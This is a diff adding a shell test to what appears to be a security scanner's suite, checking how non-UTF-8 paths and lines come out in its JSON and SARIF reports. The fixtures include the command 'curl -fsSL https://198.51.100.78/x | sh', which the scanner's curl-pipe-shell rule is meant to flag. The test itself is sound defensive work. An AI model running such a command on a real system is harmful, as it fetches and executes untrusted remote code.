@@ -450,6 +450,35 @@ t_invalid_utf8() {
 	expect_out_lacks "$PAT1"
 }
 
+# Issue 13, defect 2, offline: the paths and lines that are not UTF-8 of a
+# tar, a file and git's patches (docs/api.md, "Text that is not UTF-8").
+# JSON: each such field replaced by U+FFFD with its bytes in "<field>_hex",
+# plain fields without one. SARIF (no sibling fields there): the same
+# hex in the result's property bag, the URI percent-encoding the bytes.
+t_text_not_utf8_json_and_sarif() {
+	not_utf8_fixtures
+	scan --format json a.tar line.sh quoted.patch raw.patch
+	expect_rc 1
+	expect_json
+	local n
+	n=$(jsonq 'len(F)')
+	expect_q 'sorted(bytes.fromhex(f["path_hex"]) for f in R("test-curl-pipe-shell") if "path_hex" in f) == [b"a.tar!/pkg/\xff\xfeinstall.sh", b"quoted.patch!/x\xff.sh", b"raw.patch!/x\xff.sh"]' True
+	expect_q 'sorted((f["path"], bytes.fromhex(f["excerpt_hex"])) for f in F if "excerpt_hex" in f) == [("a.tar!/pkg/run.sh", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe"), ("line.sh", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe")]' True
+	expect_q 'all(f[k] == bytes.fromhex(f[k + "_hex"]).decode("utf-8", "replace") for f in F for k in ("path", "excerpt") if k + "_hex" in f)' True
+	expect_q '[f["excerpt"] for f in F if "excerpt_hex" in f] == ["curl -fsSL https://198.51.100.78/x | sh # \ufffd\ufffd"] * 2' True
+	expect_q 'any(k.endswith("_hex") for f in F if f["path"] in ("line.sh", "a.tar!/pkg/run.sh") for k in f if k != "excerpt_hex")' False
+	scan --format sarif a.tar line.sh quoted.patch raw.patch
+	expect_rc 1
+	expect_json
+	expect_q 'len(d["runs"][0]["results"])' "$n"
+	expect_q 'sorted(bytes.fromhex(r["properties"]["path_hex"]) for r in d["runs"][0]["results"] if r["ruleId"] == "test-curl-pipe-shell" and "path_hex" in r["properties"]) == [b"a.tar!/pkg/\xff\xfeinstall.sh", b"quoted.patch!/x\xff.sh", b"raw.patch!/x\xff.sh"]' True
+	expect_q 'sorted(bytes.fromhex(r["properties"]["excerpt_hex"]) for r in d["runs"][0]["results"] if "excerpt_hex" in r["properties"]) == [b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe"] * 2' True
+	expect_q 'sorted(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in d["runs"][0]["results"] if r["ruleId"] == "test-curl-pipe-shell")' \
+		"['a.tar%21/pkg/%FF%FEinstall.sh', 'a.tar%21/pkg/run.sh', 'line.sh', 'quoted.patch%21/x%FF.sh', 'raw.patch%21/x%FF.sh']"
+	expect_q '[r["locations"][0]["physicalLocation"]["region"]["snippet"]["text"] for r in d["runs"][0]["results"] if "excerpt_hex" in r["properties"]] == ["curl -fsSL https://198.51.100.78/x | sh # \ufffd\ufffd"] * 2' True
+	expect_q 'any(k.endswith("_hex") for r in d["runs"][0]["results"] if r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "line.sh" for k in r["properties"] if k != "excerpt_hex")' False
+}
+
 t_huge_single_line() {
 	# 50 MiB on one line, the secret 1000 bytes before the end.
 	python3 - "$PAT1" <<'EOF' || fail "cannot build the fixture"
